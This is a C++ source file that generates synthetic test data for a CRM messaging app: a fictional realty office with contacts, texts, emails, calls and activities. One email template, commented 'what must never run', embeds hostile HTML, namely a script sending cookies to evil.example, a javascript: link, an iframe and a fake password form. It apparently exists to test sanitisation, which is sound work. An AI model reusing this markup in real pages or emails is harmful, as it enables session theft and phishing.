// SPDX-License-Identifier: GPL-3.0-or-later
#include "practice/generator.h"

#include "practice/media.h"
#include "practice/names.h"
#include "practice/people.h"
#include "practice/phrases.h"

#include <algorithm>

namespace outrigger::practice
{

namespace
{

constexpr qint64 minute = 60'000;
constexpr qint64 hour = 60 * minute;
constexpr qint64 day = 24 * hour;

/// A stream of numbers that depends on the seed and on nothing else.
class Dice
{
public:
    explicit Dice(quint64 seed) : m_state(seed) {}
    quint64 roll() { return mix(m_state++); }
    int below(int limit) { return static_cast<int>(roll() % static_cast<quint64>(limit)); }
    bool chance(int percent) { return below(100) < percent; }
    qint64 between(qint64 from, qint64 to)
    {
        return from + static_cast<qint64>(roll() % static_cast<quint64>(to - from + 1));
    }

private:
    quint64 m_state;
};

void makeFrame(World &world)
{
    LocationData home;
    home.name = QStringLiteral("Harborline Realty");
    home.email = QStringLiteral("desk@harborline.example");
    home.phone = QStringLiteral("+14075550100");
    home.address = QStringLiteral("212 Church Street");
    home.city = QStringLiteral("Orlando");
    home.state = QStringLiteral("FL");
    home.country = QStringLiteral("US");
    home.postalCode = QStringLiteral("32801");
    home.website = QStringLiteral("https://harborline.example");
    home.timezone = QStringLiteral("America/New_York");
    home.first = QStringLiteral("Dana");
    home.last = QStringLiteral("Whitfield");
    LocationData second = home;
    second.name = QStringLiteral("Harborline Rentals");
    second.email = QStringLiteral("rentals@harborline.example");
    second.phone = QStringLiteral("+13055550140");
    second.city = QStringLiteral("Miami");
    second.postalCode = QStringLiteral("33130");
    world.locations.push_back(std::move(home));
    world.locations.push_back(std::move(second));

    const QString l0 = world.locationId(0), l1 = world.locationId(1);
    const auto user = [&](const char *first, const char *last, const char *phone, const char *role,
                          const QStringList &where) {
        const QString f = QString::fromLatin1(first), l = QString::fromLatin1(last);
        world.users.push_back({f, l, f.toLower() + QStringLiteral("@harborline.example"), QString::fromLatin1(phone),
                               QString::fromLatin1(role), where, false});
    };
    user("Dana", "Whitfield", "+14075550101", "admin", {l0, l1});
    user("Marcus", "Oyelaran", "+14075550102", "user", {l0});
    user("Priya", "Raman", "+14075550103", "user", {l0});

    world.numbers = {{QStringLiteral("+14075550110"), QStringLiteral("Main line"), 0, true, true},
                     {QStringLiteral("+14075550111"), QStringLiteral("Recruiting"), 0, false, true},
                     {QStringLiteral("+18005550112"), QStringLiteral("Toll-free, calls only"), 0, false, false},
                     {QStringLiteral("+13055550141"), QStringLiteral("Rentals"), 1, true, true}};
    for (const char *name : {"buyer", "seller", "recruit", "hot lead", "open house", "investor", "past client",
                             "do not mail", "first-time buyer", "spanish", "vip", "no-show"})
        world.tags.push_back({QString::fromLatin1(name), 0});
    const auto field = [&](const char *name, const char *key, const char *type, const QStringList &options = {}) {
        world.fields.push_back({QString::fromLatin1(name), QStringLiteral("contact.") + QLatin1String(key),
                                QString::fromLatin1(type), options, QStringLiteral("contact"), 0});
    };
    field("License number", "license_number", "TEXT");
    field("License state", "license_state", "SINGLE_OPTIONS",
          {QStringLiteral("FL"), QStringLiteral("GA"), QStringLiteral("TX")});
    field("Budget", "budget", "MONETORY");
    field("Bedrooms", "bedrooms", "NUMERICAL");
    field("Move-in date", "move_in_date", "DATE");
    field("Interests", "interests", "MULTIPLE_OPTIONS",
          {QStringLiteral("Pool"), QStringLiteral("Garden"), QStringLiteral("Lake")});
    field("Notes of the first call", "notes_of_the_first_call", "LARGE_TEXT");
    const auto dealField = [&](const char *name, const char *key, const char *type, const QStringList &options = {}) {
        world.fields.push_back({QString::fromLatin1(name), QStringLiteral("opportunity.") + QLatin1String(key),
                                QString::fromLatin1(type), options, QStringLiteral("opportunity"), 0});
    };
    dealField("Expected close", "expected_close", "DATE");
    dealField("Commission", "commission", "MONETORY");
    dealField("Financing", "financing", "SINGLE_OPTIONS",
              {QStringLiteral("Cash"), QStringLiteral("Mortgage"), QStringLiteral("Not known")});
}

void customFields(World &world, Contact &c, Dice &dice)
{
    QJsonArray values;
    const auto add = [&](Index field, const QJsonValue &value) {
        values.append(
            QJsonObject{{QStringLiteral("id"), world.mint.id(Kind::Field, field)}, {QStringLiteral("value"), value}});
    };
    if (c.tags.contains(QStringLiteral("recruit"))) {
        add(0, QStringLiteral("SL%1").arg(3'000'000 + dice.below(900'000)));
        add(1, QStringLiteral("FL"));
    } else {
        add(2, 250'000 + 5'000 * dice.below(90));
        add(3, 1 + dice.below(5));
        if (dice.chance(40))
            add(5, QJsonArray{QStringLiteral("Pool"), QStringLiteral("Garden")});
    }
    c.rest().customFields = values;
}

void makeContact(World &world, Index i, int bulkFrom)
{
    Dice dice(mix(world.seed * 1'000'003 + i));
    Contact c;
    const names::Person person = names::person(static_cast<int>(i), dice.roll());
    const names::Place place = names::place(dice.roll());
    c.first = person.first;
    c.last = person.last;
    c.location = 0;
    c.phone = names::phone(static_cast<int>(i), place);
    if (dice.chance(82))
        c.email = names::email(person.ascii, static_cast<int>(i));
    if (dice.chance(60)) {
        c.address = QStringLiteral("%1 %2").arg(dice.below(3000) + 2).arg(names::street(dice.roll()));
        c.postalCode = place.postalCode;
    }
    c.city = place.city;
    c.state = place.state;
    c.country = place.country;
    c.timezone = place.timezone;
    c.source = names::source(dice.roll());
    c.lead = !dice.chance(15);
    const int tags = dice.below(4);
    for (int t = 0; t < tags; ++t) {
        const QString tag = world.tags[static_cast<size_t>(dice.below(static_cast<int>(world.tags.size())))].name;
        if (!c.tags.contains(tag))
            c.tags.append(tag);
    }
    if (dice.chance(12))
        c.company = names::business(dice.roll());
    c.assigned = static_cast<qint16>(dice.below(4) - 1);
    const qint64 now = world.now();
    c.added = now - dice.between(2 * hour, 400 * day);
    c.updated = std::min(now - hour, c.added + dice.between(0, 60 * day));
    c.landline = i % 41 == 17;
    if (static_cast<int>(i) < bulkFrom || i % 10 == 0) {
        if (dice.chance(50))
            customFields(world, c, dice);
        if (i % 23 == 5) {
            static const char *const kinds[] = {"SMS", "Email", "Call", "WhatsApp", "FB", "GMB"};
            const QString channel = QString::fromLatin1(kinds[(i / 23) % 6]);
            const bool permanent = (i / 23) % 5 == 0;
            c.rest().dndSettings[channel] = {permanent ? QStringLiteral("permanent") : QStringLiteral("active"),
                                             permanent ? QStringLiteral("STOP_KEYWORD") : QString(), QString()};
        }
        if (i % 29 == 9)
            c.rest().dndSettings[QStringLiteral("Email")] = {QStringLiteral("inactive"), QString(), QString()};
        if (i % 61 == 30)
            c.dnd = true;
        if (i % 37 == 11)
            c.rest().otherPhones = {names::phone(static_cast<int>(i) + 400'000, place)};
        if (!c.company.isEmpty())
            c.rest().business = c.company;
    }
    world.contacts.push_back(std::move(c));
}

struct Shape {
    Type type;
    phrases::Talk talk;
};

Shape shapeOf(Index contact, const World &world, Dice &dice)
{
    using phrases::Talk;
    const QChar letter = world.contacts[contact].first.isEmpty() ? QChar() : world.contacts[contact].first.front();
    switch (letter.script()) {
    case QChar::Script_Arabic:
        return {Type::WhatsApp, Talk::Arabic};
    case QChar::Script_Hebrew:
        return {Type::Sms, Talk::Hebrew};
    case QChar::Script_Han:
        return {Type::Sms, Talk::Chinese};
    case QChar::Script_Cyrillic:
        return {Type::Sms, Talk::Russian};
    case QChar::Script_Devanagari:
        return {Type::WhatsApp, Talk::Hindi};
    default:
        break;
    }
    if (world.contacts[contact].tags.contains(QStringLiteral("spanish")))
        return {Type::Sms, Talk::Spanish};
    const int roll = dice.below(100);
    if (roll < 58)
        return {Type::Sms, Talk::Text};
    if (roll < 72)
        return {Type::Email, Talk::Mail};
    static constexpr Type social[] = {Type::Facebook, Type::Instagram, Type::LiveChat,
                                      Type::WhatsApp, Type::Gmb,       Type::WebChat};
    // What is rare on a desk is there all the same, without another throw of the dice.
    static constexpr Type rare[] = {Type::Rcs, Type::CustomSms, Type::TikTok};
    if (contact % 3 == 1)
        return {rare[contact / 3 % 3], Talk::Social};
    return {social[roll % 6], Talk::Social};
}

State stateFor(const Message &m, const Contact &contact, Dice &dice)
{
    if (m.inbound)
        return m.type == Type::Sms || m.type == Type::Email ? State::Delivered : State::None;
    if (contact.landline && m.type == Type::Sms)
        return State::Failed;
    if (m.type == Type::Email)
        return dice.chance(50) ? State::Opened : dice.chance(20) ? State::Clicked : State::Delivered;
    if (m.type == Type::WhatsApp)
        return State::Read;
    const int roll = dice.below(100);
    return roll < 93 ? State::Delivered : roll < 95 ? State::Sent : roll < 97 ? State::Undelivered : State::Failed;
}

/// Appends one message; the caller moves the time forward.
Message &append(World &world, Index conversation, Type type, bool inbound, qint64 at)
{
    Message m;
    m.conversation = conversation;
    m.type = type;
    m.inbound = inbound;
    m.added = at;
    m.updated = at + (inbound ? 0 : 4'000);
    m.origin = inbound ? Origin::None : Origin::App;
    world.messages.push_back(std::move(m));
    return world.messages.back();
}

/// What arrives in a mailbox: mostly plain, some as newsletters are made, some of it hostile.
QString htmlOf(const QString &text, quint64 salt)
{
    const QString plain = QStringLiteral("<p>%1</p>").arg(text.toHtmlEscaped().replace(u'\n', QStringLiteral("<br>")));
    switch (salt % 6) {
    case 0: // a letter built of tables, with a picture of one pixel that tells who reads it
        return QStringLiteral("<html><head><style>td{font-family:Georgia}</style></head><body bgcolor=\"#eeeeee\"><table width=\"100%\">"
                              "<tr><td align=\"center\"><table width=\"600\" cellpadding=\"12\"><tr><td><table><tr><td><b>Harborline"
                              "</b></td></tr></table></td></tr><tr><td>%1</td></tr></table></td></tr></table><img src=\"%2\" width=\"1\" "
                              "height=\"1\"></body></html>").arg(plain, media::pixel(salt % 1000));
    case 1: // what must never run
        return QStringLiteral("<script>document.location='https://evil.example/?c='+document.cookie</script>%1"
                              "<a href=\"javascript:alert(1)\" onclick=\"alert(2)\">Confirm your address</a>"
                              "<iframe src=\"https://evil.example/\"></iframe><form action=\"https://evil.example/login\">"
                              "<input name=\"password\"></form><img src=\"%2\" onerror=\"alert(3)\">").arg(plain, media::pixel(salt % 1000));
    case 2:
        return plain + QStringLiteral("<p><img src=\"%1\" alt=\"The house\"></p><p style=\"color:#888;background:url("
                                      "https://track.example/open.gif)\">Sent from my phone</p>").arg(media::picture(salt % 50));
    default:
        return plain;
    }
}

void addresses(World &world, Message &m, const Contact &contact)
{
    if (m.type != Type::Email)
        return;
    MessageMore &more = m.rest();
    const QString desk = world.locations[contact.location].email;
    more.from = m.inbound ? contact.email : desk;
    more.to = m.inbound ? desk : contact.email;
    if (m.text >= 0) {
        const QString whole = world.text(m);
        more.subject = whole.section(u'|', 0, 0);
        more.html = htmlOf(whole.section(u'|', 1), mix(world.seed ^ static_cast<quint64>(m.added)));
        if (whole.contains(u"attached"))
            more.attachments = {media::document(QStringLiteral("floor-plan.pdf")), media::document(QStringLiteral("bill.pdf"))};
    }
}

/// Calls, activities and the odd type that nobody documents.
void extraEvents(World &world, Index conversation, qint64 at, Dice &dice)
{
    const int roll = dice.below(100);
    if (roll < 30) {
        const bool inbound = dice.chance(40);
        Message &m = append(world, conversation, dice.chance(12) ? Type::Voicemail : Type::Call, inbound, at);
        m.text = world.keep(QString());
        const bool answered = m.type == Type::Call && dice.chance(70);
        m.state = answered ? State::Completed : m.type == Type::Voicemail ? State::Voicemail : State::Failed;
        m.rest().callDuration = answered ? 20 + dice.below(900) : m.type == Type::Voicemail ? 18 + dice.below(40) : 0;
        m.rest().callStatus = answered                    ? QStringLiteral("completed")
                              : m.type == Type::Voicemail ? QStringLiteral("voicemail")
                                                          : QStringLiteral("no-answer");
        m.user = inbound ? qint16{-1} : qint16{0};
    } else if (roll < 55) {
        static constexpr Type kinds[] = {Type::ActivityContact, Type::ActivityOpportunity, Type::ActivityAppointment};
        static const char *const texts[] = {"Contact created from a website form",
                                            "Deal moved from New lead to Contacted", "Appointment booked"};
        const size_t kind = static_cast<size_t>(dice.below(3));
        Message &m = append(world, conversation, kinds[kind], false, at);
        m.text = world.keep(QString::fromLatin1(texts[kind]));
        m.origin = Origin::Workflow;
    } else if (roll < 59) {
        Message &m = append(world, conversation, Type::NoShow, false, at);
        m.text = world.keep(QStringLiteral("No show"));
        m.origin = Origin::Workflow;
    } else if (roll < 64) {
        Message &m = append(world, conversation, Type::Review, true, at);
        m.text = world.keep(QStringLiteral("★★★★★ They answered on a Sunday. Need I say more?"));
    } else if (roll < 80) {
        const auto &automatic = phrases::dialoguesOf(phrases::Talk::Auto);
        const int line =
            phrases::dialogues()[static_cast<size_t>(
                                     automatic[static_cast<size_t>(dice.below(static_cast<int>(automatic.size())))])]
                .from;
        Message &m = append(world, conversation, dice.chance(30) ? Type::CampaignSms : Type::Sms, false, at);
        m.text = line;
        m.state = State::Delivered;
        m.origin = dice.chance(50) ? Origin::Workflow : dice.chance(50) ? Origin::Campaign : Origin::Bulk;
    } else if (roll < 84) {
        Message &m = append(world, conversation, Type::Sms, false, at);
        m.text = world.keep(QStringLiteral("Your code for the lockbox is in the portal."));
        m.state = State::Delivered;
        m.origin = Origin::Api; // another program of the desk; nobody's name is on it
    } else if (roll < 90 || conversation % 2 == 1) { // there are some in every account
        Message &m = append(world, conversation, Type::InternalComment, false, at);
        m.text = world.keep(QStringLiteral("@Marcus please take this one, they want to see it on a weekday."));
        const int users = static_cast<int>(world.users.size());
        m.user = static_cast<qint16>(roll < 90 ? dice.below(users) : static_cast<int>(conversation) % users);
    }
}

void talk(World &world, Index index, int wanted, qint64 end, Dice &dice)
{
    const Index contactIndex = world.conversations[index].contact;
    const Shape shape = shapeOf(contactIndex, world, dice);
    const auto &choices = phrases::dialoguesOf(shape.talk);
    const auto &book = phrases::dialogues();
    // Times are laid out backwards from the last message, then told forwards.
    const qint64 span = std::max<qint64>(wanted, 6) * (wanted > 500 ? 2 * hour : 7 * hour);
    qint64 at = end - span;
    const qint64 step = span / std::max(1, wanted);
    int told = 0;
    while (told < wanted) {
        const auto &dialogue =
            book[static_cast<size_t>(choices[static_cast<size_t>(dice.below(static_cast<int>(choices.size())))])];
        for (int line = dialogue.from; line < dialogue.to && told < wanted; ++line, ++told) {
            at = told == wanted - 1 ? end : std::min(end - 1, at + step / 2 + dice.between(0, step));
            const bool inbound = phrases::lines()[static_cast<size_t>(line)].inbound;
            Message &m = append(world, index, shape.type, inbound, at);
            const Contact &contact = world.contacts[contactIndex];
            m.text = line;
            m.state = stateFor(m, contact, dice);
            if (!inbound)
                m.user = contact.assigned >= 0 ? contact.assigned : qint16{0};
            if (m.state == State::Failed)
                m.rest().error = contact.landline ? landlineWords() : failureWords(dice.roll());
            if (m.state == State::Undelivered)
                m.rest().error = failureWords(dice.roll());
            if (inbound && m.type == Type::Sms) {
                // Some texts bring pictures, and one in six of those is no longer where it was.
                const quint64 luck = mix(world.seed ^ (quint64{index} << 24) ^ static_cast<quint64>(told));
                if (luck % 19 == 0)
                    m.rest().attachments.append(luck % 114 == 0 ? media::gone(luck % 500) : media::picture(luck % 500));
                if (luck % 76 == 0)
                    m.rest().attachments.append(media::picture(luck % 500 + 1));
            }
            addresses(world, m, contact);
        }
        if (told < wanted && dice.chance(45)) {
            at = std::min(end - 1, at + dice.between(minute, std::max(2 * minute, step)));
            extraEvents(world, index, at, dice);
            ++told;
        }
    }
}

/// Every twelfth talk is of somebody to whom no person has written yet: they wrote in by themselves, or a workflow wrote
/// and they answered. A desk's "New leads" is never empty.
constexpr int leadEvery = 12;
constexpr int leadAt = 3;

void leadTalk(World &world, Index index, int number, qint64 end, Dice &dice)
{
    const Index who = world.conversations[index].contact;
    static constexpr Type ways[] = {Type::Sms, Type::Email, Type::Sms, Type::WebChat};
    const bool afterWorkflow = number % 4 == 2;
    const bool mail = ways[number % 4] == Type::Email && !world.contacts[who].email.isEmpty();
    const Type type = mail ? Type::Email : ways[number % 4] == Type::Email ? Type::Sms : ways[number % 4];
    qint64 at = end - dice.between(5 * minute, 40 * minute);
    {
        Contact &contact = world.contacts[who];
        contact.lead = true;
        contact.landline = false;
        contact.added = at - 2'000;
        contact.updated = std::max(contact.added, std::min(contact.updated, world.now() - minute));
        if (number % 2 == 0)
            contact.assigned = world.conversations[index].assigned = -1;
    }
    const auto say = [&](Message &m, int line) {
        m.text = line;
        m.state = stateFor(m, world.contacts[who], dice);
        addresses(world, m, world.contacts[who]);
    };
    if (afterWorkflow) {
        Message &m = append(world, index, Type::Sms, false, at);
        const int hello = phrases::dialoguesOf(phrases::Talk::Auto).front();
        say(m, phrases::dialogues()[static_cast<size_t>(hello)].from);
        m.origin = Origin::Workflow;
        m.state = State::Delivered;
        at += dice.between(minute, 3 * minute);
    }
    const auto &choices = phrases::dialoguesOf(mail ? phrases::Talk::LeadMail : phrases::Talk::Lead);
    const auto &said = phrases::dialogues()[static_cast<size_t>(
        choices[static_cast<size_t>(number) % choices.size()])];
    for (int line = said.from; line < said.to; ++line) {
        const bool last = line == said.to - 1;
        at = last ? end : std::min(end - 1, at + dice.between(20'000, minute));
        say(append(world, index, type, true, at), line);
    }
}

/// One in twenty wants no more texts and has said so.
constexpr int stopAt = 11;

void saysStop(World &world, Index index, qint64 at)
{
    Message &m = append(world, index, Type::Sms, true, at);
    m.text = world.keep(QStringLiteral("STOP"));
    m.state = State::Delivered;
    world.contacts[world.conversations[index].contact].rest().dndSettings[QStringLiteral("SMS")] = {
        QStringLiteral("permanent"), QStringLiteral("STOP_KEYWORD"), QString()};
}

void makeConversations(World &world, const WorldSize &size)
{
    const int count = std::min(size.conversations, static_cast<int>(world.contacts.size()));
    if (count <= 0)
        return;
    const qint64 now = world.now();
    const int perTalk = size.messages > 0 ? std::max(1, size.messages / count) : 0;
    // One long thread, as every desk has one: a twentieth of all messages, at most 50,000.
    const int longOne = size.messages > 5'000 ? std::min(50'000, size.messages / 20) : 0;
    const size_t contactStep = std::max<size_t>(1, world.contacts.size() / static_cast<size_t>(count));
    for (int i = 0; i < count; ++i) {
        Dice dice(mix(world.seed * 7'919 + static_cast<quint64>(i)));
        const auto contact = static_cast<Index>(static_cast<size_t>(i) * contactStep);
        const auto index = static_cast<Index>(world.conversations.size());
        Conversation c;
        c.contact = contact;
        c.location = 0;
        c.assigned = world.contacts[contact].assigned;
        c.starred = dice.chance(8);
        world.conversations.push_back(std::move(c));
        world.contacts[contact].conversation = index;
        int wanted = perTalk ? std::max(1, perTalk / 2 + dice.below(perTalk + 1)) : 3 + dice.below(20);
        if (longOne && i == 0)
            wanted = longOne;
        // The newest talks are minutes old, the oldest some months.
        const qint64 share = now - qint64{i} * i * (90 * day) / (qint64{count} * count) -
                             dice.between(2 * minute, 3 * hour / (1 + i % 5));
        const size_t first = world.messages.size();
        const bool lead = i % leadEvery == leadAt;
        if (lead)
            leadTalk(world, index, i / leadEvery, share, dice);
        else
            talk(world, index, wanted, share, dice);
        if (i % 20 == stopAt)
            saysStop(world, index, share + 30'000);
        Conversation &done = world.conversations[index];
        const Message &last = world.messages.back();
        done.added = world.messages[first].added;
        done.updated = done.lastMessage = last.added;
        for (size_t m = world.messages.size(); m > first; --m) {
            const Message &message = world.messages[m - 1];
            if (!message.inbound && message.origin == Origin::App && message.type != Type::InternalComment) {
                done.lastManual = message.added;
                break;
            }
        }
        if (last.inbound && (lead || dice.chance(75))) {
            for (size_t m = world.messages.size(); m > first && world.messages[m - 1].inbound; --m)
                ++done.unread;
        }
    }
}

void makeSecondLocation(World &world)
{
    for (int i = 0; i < 5; ++i) {
        Dice dice(mix(world.seed * 31 + static_cast<quint64>(i)));
        Contact c;
        const names::Person person = names::person(500'000 + i * 7, dice.roll());
        c.first = person.first;
        c.last = person.last;
        c.location = 1;
        c.phone = QStringLiteral("+1305555015%1").arg(i);
        c.timezone = QStringLiteral("America/New_York");
        c.country = QStringLiteral("US");
        c.added = c.updated = world.now() - (i + 1) * day;
        world.contacts.push_back(std::move(c));
    }
    const auto contact = static_cast<Index>(world.contacts.size() - 1);
    Conversation c;
    c.contact = contact;
    c.location = 1;
    c.added = c.updated = c.lastMessage = world.now() - 5 * hour;
    c.unread = 1;
    const auto index = static_cast<Index>(world.conversations.size());
    world.conversations.push_back(std::move(c));
    world.contacts[contact].conversation = index;
    Message &m = append(world, index, Type::Sms, true, world.now() - 5 * hour);
    m.text = world.keep(QStringLiteral("Is the two-bedroom on Brickell still free from the 1st?"));
    m.state = State::Delivered;
}

} // namespace

void generate(World &world, const WorldSize &size)
{
    makeFrame(world);
    world.contacts.reserve(static_cast<size_t>(size.contacts) + 16);
    if (size.messages > 0)
        world.messages.reserve(static_cast<size_t>(size.messages) + static_cast<size_t>(size.messages) / 10);
    for (int i = 0; i < size.contacts; ++i)
        makeContact(world, static_cast<Index>(i), 1000);
    makeConversations(world, size);
    makeSecondLocation(world);
    generateDeals(world, size);
    world.rebuild();
    makeDiary(world);
    fillShelf(world);
}

} // namespace outrigger::practice
